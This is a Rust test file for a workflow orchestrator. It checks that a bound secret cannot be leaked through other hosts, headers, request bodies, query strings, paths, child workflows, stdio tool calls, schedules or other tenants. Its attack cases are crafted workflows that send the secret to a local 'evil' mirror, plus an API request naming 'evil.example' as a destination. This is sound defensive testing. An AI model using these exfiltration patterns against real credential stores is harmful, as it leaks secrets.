//! A workflow tries to learn a named secret, or to send it elsewhere: REST, MCP over stdio, schedule, child workflow, another tenant.

use std::io::{Read, Write};
use std::net::{SocketAddr, TcpListener};
use std::sync::{Arc, Mutex};

use serde_json::{Value, json};
use sha2::{Digest, Sha256};

use crate::program::Place;
use crate::server::{Answer, Server};
use crate::stdio::{Client, error_of};
use crate::workflows::{echo, json_of};

const CANARY: &str = "secret-canary-0123456789";

/// A server of an attacker, or of the shop: it keeps what it was sent, and gives it all back.
pub struct Mirror {
    pub address: SocketAddr,
    heard: Arc<Mutex<Vec<String>>>,
}

impl Mirror {
    pub fn start() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        let heard: Arc<Mutex<Vec<String>>> = Arc::default();
        let keep = heard.clone();
        std::thread::spawn(move || {
            for stream in listener.incoming().map_while(Result::ok) {
                reflect(stream, &keep);
            }
        });
        Self { address, heard }
    }

    pub fn heard(&self) -> String {
        self.heard.lock().unwrap().join("\n----\n")
    }

    pub fn url(&self) -> String {
        format!("http://{}/", self.address)
    }

    /// As a binding names a header of this server.
    pub fn header(&self, name: &str) -> String {
        format!("http://{}:{name}", self.address)
    }
}

fn reflect(mut stream: std::net::TcpStream, heard: &Mutex<Vec<String>>) {
    let mut bytes = Vec::new();
    let mut buffer = [0; 4096];
    let whole = |bytes: &[u8]| {
        let text = String::from_utf8_lossy(bytes).into_owned();
        let (head, body) = text.split_once("\r\n\r\n")?;
        let length = head
            .lines()
            .find_map(|line| line.to_ascii_lowercase().strip_prefix("content-length:")?.trim().parse().ok());
        (body.len() >= length.unwrap_or(0)).then_some(text.clone())
    };
    let request = loop {
        match stream.read(&mut buffer) {
            Ok(0) | Err(_) => return,
            Ok(read) => bytes.extend_from_slice(&buffer[..read]),
        }
        if let Some(request) = whole(&bytes) {
            break request;
        }
    };
    heard.lock().unwrap().push(request.clone());
    let encoded = base64(request.as_bytes());
    let body = json!({"request": request, "base64": encoded}).to_string();
    let _ = write!(
        stream,
        "HTTP/1.1 200 OK\r\nContent-Type: application/json\r\nX-Echo: {}\r\nConnection: close\r\nContent-Length: {}\r\n\r\n{body}",
        CANARY,
        body.len()
    );
}

pub fn base64(bytes: &[u8]) -> String {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
    let mut out = String::new();
    for chunk in bytes.chunks(3) {
        let number = chunk.iter().fold(0_u32, |number, byte| number << 8 | u32::from(*byte))
            << (8 * (3 - chunk.len()));
        for place in 0..4 {
            let letter = LETTERS[usize::try_from(number >> (18 - 6 * place) & 63).unwrap()];
            out.push(if place > chunk.len() { '=' } else { char::from(letter) });
        }
    }
    out
}

/// The bytes hold the canary in no form that is easily undone.
pub fn assert_silent(what: &str, bytes: &[u8], canary: &str) {
    let text = String::from_utf8_lossy(bytes);
    for form in forms(canary) {
        assert!(!text.contains(&form), "{canary} is in {what}, as {form}");
    }
}

/// As it is, and in base64, hexadecimal digits and percent-encoding.
pub fn forms(canary: &str) -> Vec<String> {
    let hex: String = canary.bytes().map(|byte| format!("{byte:02x}")).collect();
    let percent: String = canary.bytes().map(|byte| format!("%{byte:02X}")).collect();
    let mut forms =
        vec![canary.to_owned(), hex.to_ascii_uppercase(), hex, percent.to_ascii_lowercase(), percent];
    for before in ["", "x", "xx"] {
        // Letters at the edges depend on what stands beside it.
        let encoded = base64(format!("{before}{canary}").as_bytes());
        let inner = &encoded.trim_end_matches('=')[before.len() * 2..];
        forms.push(inner[..inner.len() - 2].to_owned());
    }
    forms
}

fn sha256(token: &str) -> String {
    Sha256::digest(token.as_bytes()).iter().map(|byte| format!("{byte:02x}")).collect()
}

/// A place with a secret for the stored workflow `shop`, in the header Authorization of this server.
fn place(shop: &Mirror) -> Place {
    let place = Place::new()
        .with("ORCHESTR8_HTTP_LISTEN", "127.0.0.1:1")
        .with("ORCHESTR8_WORKFLOWS_HTTP_ALLOW_PRIVATE", "true")
        .with("SHOP_TOKEN", CANARY);
    let to = shop.header("Authorization");
    let said =
        place.run(&["secrets", "set", "SHOP", "--from-env", "SHOP_TOKEN", "--workflow", "shop", "--to", &to]);
    assert_eq!(said.code, Some(0), "{said:?}");
    place.write("shop.json", &honest(shop).to_string());
    let said = place.run(&["workflows", "apply", "shop.json"]);
    assert_eq!(said.code, Some(0), "{said:?}");
    place
}

fn flow(id: &str, steps: Value) -> Value {
    json!({"id": id, "version": "1.0.0", "name": id, "secretRefs": ["SHOP"], "steps": steps})
}

fn call(id: &str, url: &str, input: Value) -> Value {
    let mut step = json!({"id": id, "agentId": "@orchestr8/http", "config": {"url": url}});
    step["input"] = input;
    step
}

fn honest(shop: &Mirror) -> Value {
    flow(
        "shop",
        json!([call("ask", &shop.url(), json!({"headers": {"Authorization": "Bearer ${secrets.SHOP}"}}))]),
    )
}

fn post(server: &Server, target: &str, more: &str, body: &Value) -> Answer {
    server.connect().request("POST", target, more, Some(&body.to_string())).unwrap()
}

const RUN: &str = "/v1/workflows/execute?mode=sync";

#[test]
fn the_bound_workflow_sends_it_and_a_response_that_reflects_it_is_masked() {
    let shop = Mirror::start();
    let place = place(&shop);
    let server = Server::start(&place, &[]);
    let answer = post(&server, RUN, "", &json!({"workflowId": "shop"}));
    assert_eq!(answer.status, 200, "{answer:?}");
    assert!(shop.heard().contains(&format!("Bearer {CANARY}")), "{}", shop.heard());
    let output = &answer.json()["outputs"]["ask"];
    assert!(output["body"]["request"].as_str().unwrap().contains("[REDACTED]"), "{output}");
    assert_eq!(output["headers"]["x-echo"], "[REDACTED]");
    assert_silent("the answer", answer.body.as_bytes(), CANARY);
    server.terminate();
    for entry in std::fs::read_dir(place.data_file().parent().unwrap()).unwrap() {
        let path = entry.unwrap().path();
        assert_silent(&path.display().to_string(), &std::fs::read(&path).unwrap(), CANARY);
    }
}

#[test]
fn no_definition_sends_it_elsewhere_or_under_the_id_of_another() {
    let (shop, evil) = (Mirror::start(), Mirror::start());
    let place = place(&shop);
    let server = Server::start(&place, &[]);
    let header = json!({"headers": {"Authorization": "${secrets.SHOP}"}});
    let attacks = [
        (
            "another definition with the same id",
            flow("shop", json!([call("take", &shop.url(), header.clone())])),
        ),
        ("another host", flow("shop", json!([call("take", &evil.url(), header.clone())]))),
        ("another workflow", flow("other", json!([call("take", &shop.url(), header)]))),
        (
            "another header",
            flow(
                "shop",
                json!([call("take", &shop.url(), json!({"headers": {"X-Leak": "${secrets.SHOP}"}}))]),
            ),
        ),
        (
            "the body",
            flow("shop", json!([call("take", &evil.url(), json!({"body": {"k": "${secrets.SHOP}"}}))])),
        ),
        (
            "the address",
            flow("shop", json!([call("take", &evil.url(), json!({"query": {"k": "${secrets.SHOP}"}}))])),
        ),
        (
            "the path",
            flow("shop", json!([call("take", &format!("{}${{secrets.SHOP}}", evil.url()), json!({}))])),
        ),
    ];
    for (what, workflow) in attacks {
        let answer = post(&server, RUN, "", &json!({"workflow": workflow}));
        assert!(answer.body.contains("SECRET_NOT_ALLOWED"), "{what}: {answer:?}");
        assert_silent(what, answer.body.as_bytes(), CANARY);
    }
    let inside = json!({"id": "outer", "version": "1.0.0", "name": "outer", "steps": [{"id": "child", "type": "workflow",
        "workflow": flow("shop", json!([call("take", &evil.url(), json!({"headers": {"Authorization": "${secrets.SHOP}"}}))]))}]});
    let answer = post(&server, RUN, "", &json!({"workflow": inside}));
    assert!(answer.body.contains("SECRET_NOT_ALLOWED"), "a child: {answer:?}");
    assert_eq!((shop.heard().as_str(), evil.heard().as_str()), ("", ""));
}

#[test]
fn agents_that_send_nothing_out_see_the_mask() {
    let shop = Mirror::start();
    let place = place(&shop);
    let server = Server::start(&place, &[]);
    let taken = json!({"plain": "${secrets.SHOP}", "inside": ["<${secrets.SHOP}>"]});
    let steps = json!([
        echo("echo", &[], taken.clone()),
        {"id": "transform", "agentId": "@orchestr8/transform", "dependencies": ["echo"],
         "input": {"data": taken, "operations": []}},
        echo("again", &["echo"], json!({"from": "${steps.echo.output.plain}"})),
    ]);
    let answer = post(&server, RUN, "", &json!({"workflow": flow("shop", steps)}));
    assert_silent("the answer", answer.body.as_bytes(), CANARY);
    let steps =
        json!([echo("echo", &[], json!({"plain": "${secrets.SHOP}", "inside": ["<${secrets.SHOP}>"]}))]);
    let answer = post(&server, RUN, "", &json!({"workflow": flow("shop", steps)}));
    assert_eq!(
        answer.json()["outputs"]["echo"],
        json!({"plain": "[REDACTED]", "inside": ["<[REDACTED]>"]}),
        "{answer:?}"
    );
    let tool = json!([{"id": "tool", "agentId": "@orchestr8/tool", "config": {"tool": "echo"},
        "input": {"arguments": {"message": "${secrets.SHOP}"}}}]);
    let answer = post(&server, RUN, "", &json!({"workflow": flow("shop", tool)}));
    assert_silent("a tool", answer.body.as_bytes(), CANARY);
    assert!(answer.body.contains("[REDACTED]"), "{answer:?}");
}

#[test]
fn a_tool_call_over_stdio_learns_nothing() {
    let (shop, evil) = (Mirror::start(), Mirror::start());
    let place = place(&shop);
    let mut client = Client::ready(&place, &[]);
    let steps = json!([
        echo("echo", &[], json!({"plain": "${secrets.SHOP}"})),
        call("take", &evil.url(), json!({"headers": {"Authorization": "${secrets.SHOP}"}}))
    ]);
    let answer = client.call(1, "run_workflow", json!({"workflow": flow("shop", steps), "wait": true}));
    assert_silent("run_workflow", answer.to_string().as_bytes(), CANARY);
    let listed = client.ask(&json!({"jsonrpc": "2.0", "id": 2, "method": "tools/list"}));
    assert!(!listed.to_string().contains("secrets."), "the actions of secrets are no tools");
    let refused = client.call(3, "secrets.list", json!({}));
    assert!(refused.get("error").is_some() || error_of(&refused)["code"] == "NOT_FOUND", "{refused}");
    assert_silent("the log", client.log_at_end().as_bytes(), CANARY);
    assert_eq!(evil.heard(), "");
}

#[test]
fn a_schedule_of_the_bound_workflow_works_and_one_of_another_does_not() {
    let shop = Mirror::start();
    let place = place(&shop);
    let server = Server::start(&place, &[]);
    let thief = flow(
        "thief",
        json!([call("take", &shop.url(), json!({"headers": {"Authorization": "${secrets.SHOP}"}}))]),
    );
    let stored = server
        .connect()
        .request("PUT", "/v1/workflows", "", Some(&json!({"workflow": thief}).to_string()))
        .unwrap();
    assert_eq!(stored.status, 201, "{stored:?}");
    for (id, workflow, status) in [("good", "shop", "completed"), ("bad", "thief", "failed")] {
        let schedule = json!({"id": id, "workflowId": workflow, "cron": "0 0 1 1 *"});
        assert_eq!(post(&server, "/v1/schedules", "", &schedule).status, 200);
        let begun = post(&server, &format!("/v1/schedules/{id}/trigger"), "", &json!({}));
        let execution = begun.json()["executionId"].as_str().unwrap().to_owned();
        let ended = ended(&server, &execution);
        assert_eq!(ended["status"], status, "{ended:#}");
        assert_silent(id, ended.to_string().as_bytes(), CANARY);
    }
    assert_eq!(shop.heard().matches(CANARY).count(), 1);
}

/// The execution once it has ended.
fn ended(server: &Server, execution: &str) -> Value {
    server.connect().get(&format!("/v1/executions/{execution}?wait=60s")).json()
}

#[test]
fn another_tenant_neither_uses_sees_nor_changes_it() {
    let shop = Mirror::start();
    let place = place(&shop);
    let token = |name: &str, tenant: &str, roles: Value| json!({"name": name, "sha256": sha256(name), "tenant": tenant, "roles": roles});
    let tokens = json!([
        token("rival", "rival", json!(["owner", "admin"])),
        token("viewer", "local", json!(["viewer"])),
        token("operator", "local", json!(["operator", "editor"])),
        token("admin", "local", json!(["admin"]))
    ]);
    place.write("orchestr8.json", &json!({"auth": {"tokens": tokens}}).to_string());
    let server = Server::start(&place, &[]);
    let bearer = |name: &str| format!("Authorization: Bearer {name}\r\n");
    let answer = post(&server, RUN, &bearer("rival"), &json!({"workflow": honest(&shop)}));
    assert!(answer.body.contains("SECRET_NOT_ALLOWED"), "{answer:?}");
    let mut client = server.connect();
    let listed = client.request("GET", "/v1/secrets", &bearer("rival"), None).unwrap();
    assert_eq!(listed.json()["secrets"], json!([]), "{listed:?}");
    let rotated = client
        .request("PUT", "/v1/secrets/SHOP", &bearer("rival"), Some(r#"{"value": "attacker-value"}"#))
        .unwrap();
    assert_eq!(rotated.status, 404, "{rotated:?}");
    assert_eq!(client.request("DELETE", "/v1/secrets/SHOP", &bearer("rival"), None).unwrap().status, 404);
    for name in ["viewer", "operator"] {
        for (method, target, body) in [
            ("GET", "/v1/secrets", None),
            (
                "POST",
                "/v1/secrets",
                Some(
                    r#"{"name": "MINE", "value": "attacker-value", "workflows": ["x"], "to": ["evil.example:x"]}"#,
                ),
            ),
            ("PUT", "/v1/secrets/SHOP", Some(r#"{"value": "attacker-value"}"#)),
            ("DELETE", "/v1/secrets/SHOP", None),
        ] {
            let refused = client.request(method, target, &bearer(name), body).unwrap();
            assert_eq!(refused.status, 403, "{name} {method} {target}: {refused:?}");
        }
    }
    let listed = client.request("GET", "/v1/secrets", &bearer("admin"), None).unwrap();
    assert_eq!(listed.json()["secrets"][0]["name"], "SHOP", "{listed:?}");
    assert_silent("the list", listed.body.as_bytes(), CANARY);
    assert_eq!(shop.heard(), "");
}

#[test]
fn an_unbound_secret_of_the_environment_is_refused_with_a_hint() {
    let shop = Mirror::start();
    let place = Place::new()
        .with("ORCHESTR8_SECRET_SHOP", CANARY)
        .with("ORCHESTR8_WORKFLOWS_HTTP_ALLOW_PRIVATE", "true");
    place.write("shop.json", &honest(&shop).to_string());
    let said = place.run(&["run", "shop.json", "--embedded"]);
    assert_eq!(said.code, Some(1), "{said:?}");
    assert!(said.err.contains("SECRET_NOT_ALLOWED") && said.err.contains("secrets set"), "{}", said.err);
    assert!(said.err.contains("ORCHESTR8_SECRET_SHOP is not used"), "{}", said.err);
    place.write(
        "orchestr8.json",
        &json!({"secrets": {"named": {"SHOP": {"agents": ["@orchestr8/http"], "to": [shop.header("Authorization")]}}}}).to_string(),
    );
    let said = place.run(&["run", "shop.json", "--embedded", "--quiet"]);
    assert_eq!(said.code, Some(0), "{said:?}");
    assert!(shop.heard().contains(CANARY));
    assert_silent("the output", said.out.as_bytes(), CANARY);
    let listed = place.run(&["secrets", "list", "--json", "--embedded"]);
    assert_eq!(json_of(&listed)["secrets"][0]["source"], "settings", "{listed:?}");
}
